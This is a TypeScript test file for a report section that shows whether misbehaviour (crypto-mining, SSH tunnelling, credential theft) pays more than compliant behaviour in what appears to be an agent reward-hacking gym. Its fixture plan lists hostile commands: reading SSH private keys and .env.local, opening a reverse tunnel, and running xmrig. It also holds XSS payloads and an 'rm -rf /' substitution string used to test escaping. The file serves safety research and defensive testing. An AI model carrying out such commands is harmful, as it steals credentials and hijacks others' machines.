/**
 * The report's "What pays here" section: the planner's numbers read from the run's planner.json
 * (best compliant return, each behaviour's incentive, the optimal plan's first commands, exact or
 * lower bound), read defensively, every string from the file escaped in report.html and summary.md.
 */
import assert from 'node:assert/strict';
import path from 'node:path';
import { after, before, test } from 'node:test';
import type { RunData } from '../../experiments/rundir.js';
import { buildReport, readRun } from '../../reports/build.js';
import { PLAN_COMMANDS_SHOWN, whatPays, whatPaysNarrative } from '../../reports/whatpays.js';
import { makeRunDir, tempDir } from './fixture.js';
import { PAYLOADS, PAYLOAD_SHAPING } from './payloads.js';

const AT = '2025-06-01T12:00:00.000Z';
let tmp: { dir: string; cleanup: () => void };
let run: RunData;

before(() => {
  tmp = tempDir('report-whatpays');
  const dir = path.join(tmp.dir, 'run');
  makeRunDir(dir, { shapings: ['outcome', 'outcome+cost'], seeds: [1, 2], steps: 600, evalEpisodes: 6, traceEpisodes: 1 });
  run = readRun(dir);
});
after(() => tmp.cleanup());

/** A planner.json as experiments/planner-pass.ts writes it. */
function plannerFile(over: Record<string, unknown> = {}) {
  const plan = ['cat TASK.md', 'ls -a ~/.ssh', 'cat ~/.ssh/config ~/.ssh/id_rsa', 'ssh -fNR 2222:localhost:22 relay', './xmrig -o pool.example:3333 --cuda-devices 3', 'ls -a ~', 'cat .env.local', 'sleep 1', 'sleep 1', 'curl https://market.example/rent'];
  return {
    format: 'rome-gym-planner/1',
    scenario: 'mining',
    seeds: [101, 202],
    shapings: {
      'outcome+cost': {
        gamma: 0.97,
        best: 0.5,
        bestClass: 'compliant',
        exact: true,
        method: 'exact: memoised DFS',
        classes: { compliant: 0.5, hijack: null, tunnel: 0.49, chain: 0.45, any: 0.5 },
        incentives: { tunnel: -0.01, chain: -0.05, any: 0 },
        exactClasses: { compliant: true, tunnel: true, chain: true, any: true },
        plan: ['cat TASK.md', 'submit'],
      },
      outcome: {
        gamma: 0.97,
        best: 0.6143,
        bestClass: 'chain',
        exact: true,
        method: 'exact: memoised DFS with admissible bound, 1,234 nodes over 2 seed(s)',
        classes: { compliant: 0.5117, hijack: null, mining: 0.5117, tunnel: 0.5117, chain: 0.6143, any: 0.6143 },
        incentives: { mining: 0, tunnel: 0, chain: 0.1026, any: 0.1026 },
        exactClasses: { compliant: true, mining: true, tunnel: false, chain: true, any: true },
        plan,
      },
      ...over,
    },
  };
}

test('whatPays: compliant, incentives, optimum, plan and exactness per shaping, in the run\'s shaping order', () => {
  const w = whatPays(plannerFile(), ['outcome', 'outcome+cost'])!;
  assert.deepEqual(w.seeds, [101, 202]);
  assert.deepEqual(w.shapings.map((s) => s.shaping), ['outcome', 'outcome+cost']);
  const o = w.shapings[0]!;
  assert.equal(o.compliant, 0.5117);
  assert.equal(o.bestClass, 'chain');
  assert.deepEqual(o.pays, ['chain']);
  assert.deepEqual(o.rows.map((r) => [r.name, r.value, r.incentive, r.exact]), [
    ['hijack', null, null, null],
    ['mining', 0.5117, 0, true],
    ['tunnel', 0.5117, 0, false],
    ['chain', 0.6143, 0.1026, true],
  ]);
  assert.equal(o.plan!.length, PLAN_COMMANDS_SHOWN);
  assert.ok(o.planCut);
  const [intro, outcome, cost] = whatPaysNarrative(w);
  assert.match(intro!, /2 episode layout\(s\), seeds 101, 202/);
  assert.match(outcome!, /^Under outcome chain \+0\.1026 over the best compliant return 0\.5117; the optimum 0\.6143 \(chain, exact\)\.$/);
  assert.match(cost!, /^Under outcome\+cost nothing pays/);
});

test('whatPays reads defensively: no file, another format, wrong types are absent, never an exception', () => {
  assert.equal(whatPays(null), null);
  assert.equal(whatPays({ format: 'other/9', shapings: {} }), null);
  assert.equal(whatPays([1, 2]), null);
  const w = whatPays({ format: 'rome-gym-planner/1', seeds: 'x', shapings: { outcome: { best: 'high', classes: { compliant: '0.5', chain: 0.7 }, incentives: { chain: 'a lot' }, plan: [1, 'submit'], exact: 'yes' }, broken: 7 } })!;
  assert.deepEqual(w.seeds, []);
  assert.equal(w.shapings.length, 1);
  const s = w.shapings[0]!;
  assert.equal(s.best, null);
  assert.equal(s.compliant, null);
  assert.equal(s.exact, null);
  assert.deepEqual(s.rows, [{ name: 'chain', value: 0.7, incentive: null, exact: null }]);
  assert.deepEqual(s.plan, ['submit']);
  // An older file without plan or per-class exactness still renders.
  const old = plannerFile();
  delete (old.shapings.outcome as Record<string, unknown>)['plan'];
  delete (old.shapings.outcome as Record<string, unknown>)['exactClasses'];
  const built = buildReport({ ...run, planner: old }, AT);
  assert.match(built.html, /planner\.json has no plan commands/);
  assert.match(built.markdown, /planner\.json has no plan commands/);
});

test('report.html and summary.md show the section, and escape every string that came from planner.json', () => {
  const evil = plannerFile({
    [PAYLOAD_SHAPING]: {
      gamma: 0.97,
      best: 0.7,
      bestClass: PAYLOADS.script,
      exact: false,
      method: PAYLOADS.closeScript,
      classes: { compliant: 0.5, [PAYLOADS.img]: 0.7 },
      incentives: { [PAYLOADS.img]: 0.2 },
      exactClasses: { compliant: true, [PAYLOADS.img]: false },
      plan: [PAYLOADS.iframe, 'echo `rm -rf /` | tee x'],
    },
  });
  const { html, markdown, model } = buildReport({ ...run, planner: evil }, AT);
  assert.ok(model.whatPays !== null);
  const start = html.indexOf('<section class="cell" id="whatpays">');
  assert.ok(start > html.indexOf('id="headline"') && start < html.indexOf('id="curves"'), 'after the headline');
  const cell = html.slice(start, html.indexOf('</section>', start));
  assert.match(cell, /<p class="narrative">Under outcome chain \+0\.1026/);
  assert.match(cell, /<pre class="plan">cat TASK\.md\nls -a ~\/\.ssh\ncat ~\/\.ssh\/config ~\/\.ssh\/id_rsa/);
  assert.match(cell, /tunnel<\/td><td class="num">0\.5117 <span class="sm">\(lower bound\)<\/span>/);
  for (const p of [...Object.values(PAYLOADS), PAYLOAD_SHAPING]) assert.ok(!cell.includes(p), `raw payload in the cell: ${p}`);
  assert.ok(!/<(script|img|iframe|svg)\b/i.test(cell), 'no element from the file');
  assert.ok(cell.includes('&lt;img src=x onerror=&quot;window.__pwned=2&quot;&gt;'));
  const md = markdown.slice(markdown.indexOf('## What pays here (planner)'), markdown.indexOf('## Key figures'));
  assert.match(md, /\| chain \| 0\.6143 \| \*\*\+0\.1026\*\* \|/);
  assert.ok(md.includes('```sh\ncat TASK.md\nls -a ~/.ssh'));
  for (const p of [PAYLOADS.script, PAYLOADS.img, PAYLOAD_SHAPING]) assert.ok(!md.replace(/```sh\n[\s\S]*?\n```/g, '').includes(p), `raw payload outside code: ${p}`);
  // Without a planner file the section says the incentives are unknown.
  const none = buildReport({ ...run, planner: null }, AT);
  assert.match(none.html, /id="whatpays">[\s\S]*?no planner\.json/);
  assert.match(none.markdown, /## What pays here \(planner\)\n\nThis run has no planner\.json/);
});
